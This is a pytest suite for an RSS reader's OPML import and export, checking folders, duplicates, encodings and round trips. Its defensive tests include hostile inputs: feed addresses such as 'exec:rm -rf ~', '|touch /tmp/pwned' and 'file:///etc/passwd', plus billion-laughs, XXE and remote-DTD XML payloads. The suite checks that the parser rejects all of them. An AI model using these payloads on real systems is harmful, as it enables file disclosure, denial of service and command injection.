"""OPML import and export: what a user sees after importing another reader's subscriptions."""

from __future__ import annotations

import importlib.resources

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.errors import FeedRejected
from reader.opml import OpmlImport, OpmlSource, parse_opml, write_opml


def _opml(body: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return f'{declaration}\n<opml version="2.0"><head/><body>{body}</body></opml>'.encode()


NESTED = _opml(
    """
    <outline text="Top" xmlUrl="https://top.example/feed" htmlUrl="https://top.example/"/>
    <outline text="Новости" title="Новости">
      <outline type="rss" text="Tengrinews" xmlUrl="https://tengrinews.kz/news.rss"/>
      <outline text="Мир">
        <outline text="BBC text" title="BBC" xmlUrl="https://feeds.bbci.co.uk/russian/rss.xml"
                 htmlUrl="https://www.bbc.com/russian"/>
      </outline>
    </outline>
    <outline title="Only a title">
      <outline text="Deep" xmlUrl="http://deep.example/rss"/>
    </outline>
    """
)


def test_nested_outlines_become_folders_named_by_the_nearest_outline() -> None:
    result = parse_opml(NESTED)
    assert [(s.title, s.folder) for s in result.sources] == [
        ("Top", None),
        ("Tengrinews", "Новости"),
        ("BBC", "Новости/Мир"),
        ("Deep", "Only a title"),
    ]
    assert result.problems == ()


def test_title_falls_back_to_text_and_site_address_is_kept() -> None:
    top, tengri, bbc, _ = parse_opml(NESTED).sources
    assert top == OpmlSource("https://top.example/feed", "Top", "https://top.example/", None)
    assert tengri.site_url is None
    assert bbc.title == "BBC"  # title wins over text
    assert bbc.site_url == "https://www.bbc.com/russian"


def test_duplicates_are_merged_keeping_the_first_and_reported() -> None:
    result = parse_opml(
        _opml(
            """
            <outline text="Folder A">
              <outline text="First" xmlUrl="https://Example.KZ/rss"/>
            </outline>
            <outline text="Second" xmlUrl="  HTTPS://example.kz/rss  "/>
            <outline text="Other path" xmlUrl="https://example.kz/rss/"/>
            """
        )
    )
    assert [(s.url, s.title, s.folder) for s in result.sources] == [
        ("https://example.kz/rss", "First", "Folder A"),
        ("https://example.kz/rss/", "Other path", None),
    ]
    assert result.problems == ('Skipped "Second": the same feed is already listed in "Folder A".',)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "exec:rm -rf ~",
        "filter:cat",
        "|touch /tmp/pwned",
        "data:text/xml,<rss/>",
        "/relative/feed.xml",
        "feed.xml",
        "ftp://example.kz/feed",
        "http://",
        "https://exa mple.kz/feed",
    ],
)
def test_an_unsafe_or_unusable_address_is_reported_and_the_good_feeds_kept(address: str) -> None:
    body = (
        '<outline text="Good" xmlUrl="https://good.example/rss"/>'
        f'<outline text="Bad" xmlUrl="{address.replace("<", "&lt;")}"/>'
        '<outline text="Also good" xmlUrl="https://also.example/rss"/>'
    )
    result = parse_opml(_opml(body))
    assert [s.title for s in result.sources] == ["Good", "Also good"]
    assert len(result.problems) == 1
    assert result.problems[0].startswith('Skipped "Bad": its feed address "')
    assert result.problems[0].endswith('" is not a web address.')


def test_a_feed_outline_without_an_address_is_reported() -> None:
    result = parse_opml(_opml('<outline type="rss" text="Nameless feed"/><outline xmlUrl=""/>'))
    assert result.sources == ()
    assert result.problems == (
        'Skipped "Nameless feed": it has no feed address.',
        "Skipped an outline without a name: it has no feed address.",
    )


def test_a_javascript_site_address_is_dropped_but_the_feed_kept() -> None:
    body = '<outline text="X" xmlUrl="https://x.example/rss" htmlUrl="javascript:alert(1)"/>'
    (source,) = parse_opml(_opml(body)).sources
    assert source.site_url is None


def test_too_many_outlines_are_cut_off_with_a_message() -> None:
    body = "".join(f'<outline text="F{i}" xmlUrl="https://f{i}.example/rss"/>' for i in range(7))
    result = parse_opml(_opml(body), max_outlines=5)
    assert [s.title for s in result.sources] == ["F0", "F1", "F2", "F3", "F4"]
    assert result.problems == (
        "The file lists more than 5 entries; Kabar read the first 5 and skipped the rest.",
    )


def test_absurdly_deep_folders_are_flattened_and_can_be_written_back() -> None:
    depth = 3000
    body = '<outline text="d">' * depth + '<outline text="F" xmlUrl="https://f.example/"/>'
    result = parse_opml(_opml(body + "</outline>" * depth))
    assert result.sources[0].folder == "/".join(["d"] * 20)
    assert parse_opml(write_opml(result.sources)) == result


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE opml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<opml version="2.0"><head/><body><outline text="&lol2;" xmlUrl="https://a.example/"/></body></opml>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><head/><body><outline text="&secret;" xmlUrl="https://a.example/"/></body></opml>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>
<opml version="2.0"><head/><body/></opml>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY])
def test_hostile_xml_is_refused_before_parsing(document: bytes) -> None:
    with pytest.raises(FeedRejected) as caught:
        parse_opml(document)
    assert "entit" in str(caught.value)


def test_a_harmless_internal_entity_is_accepted() -> None:
    document = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY copy "&#169;">]>
<opml version="2.0"><head/><body><outline text="&copy; News" xmlUrl="https://n.example/"/></body>
</opml>"""
    assert parse_opml(document).sources[0].title == "© News"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"<!DOCTYPE html><html><body><p>Hello<br></body></html>", "not well-formed XML"),
        (b"", "not well-formed XML"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not well-formed XML"),
        (b'<rss version="2.0"><channel><title>T</title></channel></rss>', "news feed"),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title></feed>', "news feed"),
        (b"<settings><outline/></settings>", "<settings>"),
        (b'<opml version="2.0"><head/></opml>', "no <body>"),
    ],
)
def test_a_document_that_is_not_opml_is_refused_with_a_clear_message(
    document: bytes, message: str
) -> None:
    with pytest.raises(FeedRejected) as caught:
        parse_opml(document)
    assert message in str(caught.value)
    assert str(caught.value).endswith(".")


def test_a_windows_1251_opml_file_is_read() -> None:
    text = (
        '<?xml version="1.0" encoding="windows-1251"?>\n'
        '<opml version="1.0"><head><title>Подписки</title></head><body>'
        '<outline text="Казахстан"><outline text="Новости Алматы" type="rss" '
        'xmlUrl="https://almaty.example/rss"/></outline></body></opml>'
    )
    result = parse_opml(text.encode("windows-1251"))
    assert result.sources == (
        OpmlSource("https://almaty.example/rss", "Новости Алматы", None, "Казахстан"),
    )


def test_a_utf16_opml_file_with_a_byte_order_mark_is_read() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + NESTED.decode().split("?>", 1)[1]
    assert parse_opml(text.encode("utf-16")).sources == parse_opml(NESTED).sources


ROUND_TRIP = (
    OpmlSource(
        "https://tengrinews.kz/news.rss", "Tengri — Қазақстан", "https://tengri.kz/", "Казахстан"
    ),
    OpmlSource("https://a.example/rss?x=1&y=2", 'Tom & Jerry "quoted" <news>', None, "Казахстан"),
    OpmlSource("https://b.example/feed", None, None, 'Fish & "Chips"/Ёлка'),
    OpmlSource("https://c.example/atom.xml", "Line\nbreak\tand tab", None, 'Fish & "Chips"'),
    OpmlSource("https://d.example/", "No folder", "https://d.example/about", None),
    OpmlSource("https://e.example/rss", "Back in the first folder", None, "Казахстан"),
    OpmlSource("https://f.example/rss", "Spaced slash", None, "Мир / World"),
)


def test_write_then_parse_gives_back_exactly_the_same_sources() -> None:
    data = write_opml(ROUND_TRIP)
    assert parse_opml(data) == OpmlImport(sources=ROUND_TRIP, problems=())


def test_written_opml_is_pretty_utf8_opml_2_with_nested_folders() -> None:
    text = write_opml(ROUND_TRIP, title="Мои ленты").decode("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')
    assert "<title>Мои ленты</title>" in text
    assert "Казахстан" in text  # not escaped as character references
    assert '\n      <outline text="Ёлка" title="Ёлка">' in text  # a folder inside a folder
    assert text.count('type="rss"') == len(ROUND_TRIP)


def test_a_bare_slash_makes_a_subfolder_but_a_spaced_one_is_part_of_the_name() -> None:
    sources = [
        OpmlSource("https://x.example/rss", "X", None, "News/Local"),
        OpmlSource("https://y.example/rss", "Y", None, "Мир / World"),
    ]
    text = write_opml(sources).decode()
    assert '<outline text="News" title="News">\n      <outline text="Local"' in text
    assert '<outline text="Мир / World" title="Мир / World">' in text
    assert [s.folder for s in parse_opml(text.encode()).sources] == ["News/Local", "Мир / World"]


def test_a_source_without_a_title_is_written_with_its_address_as_text() -> None:
    data = write_opml([OpmlSource("https://x.example/rss", None, None, None)])
    assert (
        b'<outline text="https://x.example/rss" type="rss" xmlUrl="https://x.example/rss" />'
        in data
    )
    assert parse_opml(data).sources[0].title is None


_names = (
    st.text(
        st.characters(blacklist_categories=("Cs", "Cc", "Cn"), blacklist_characters="/"),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@given(
    st.lists(
        st.tuples(
            st.none() | _names,
            st.none() | st.lists(_names, min_size=1, max_size=3).map("/".join),
            st.booleans(),
        ),
        max_size=8,
    )
)
def test_any_list_of_sources_survives_a_round_trip(
    rows: list[tuple[str | None, str | None, bool]],
) -> None:
    sources = []
    for i, (title, folder, has_site) in enumerate(rows):
        site_url = f"https://s{i}.example/" if has_site else None
        sources.append(OpmlSource(f"https://s{i}.example/feed", title, site_url, folder))
    assert parse_opml(write_opml(sources)) == OpmlImport(sources=tuple(sources), problems=())


def test_the_shipped_default_list_is_clean_https_feeds_in_four_non_empty_folders() -> None:
    resource = importlib.resources.files("reader.resources") / "default-sources.opml"
    result = parse_opml(resource.read_bytes())
    assert result.problems == ()
    sources = result.sources
    assert len(sources) >= 15
    assert len({s.url for s in sources}) == len(sources)
    folders = ["Казахстан — на русском", "Қазақстан — қазақша", "Kazakhstan — in English"]
    assert sorted({s.folder or "" for s in sources}) == sorted([*folders, "Мир / World"])
    for folder in {s.folder for s in sources}:
        assert sum(s.folder == folder for s in sources) >= 3, folder
    for source in sources:
        assert source.url.startswith("https://"), source
        assert (source.site_url or "").startswith("https://"), source
        assert source.title, source
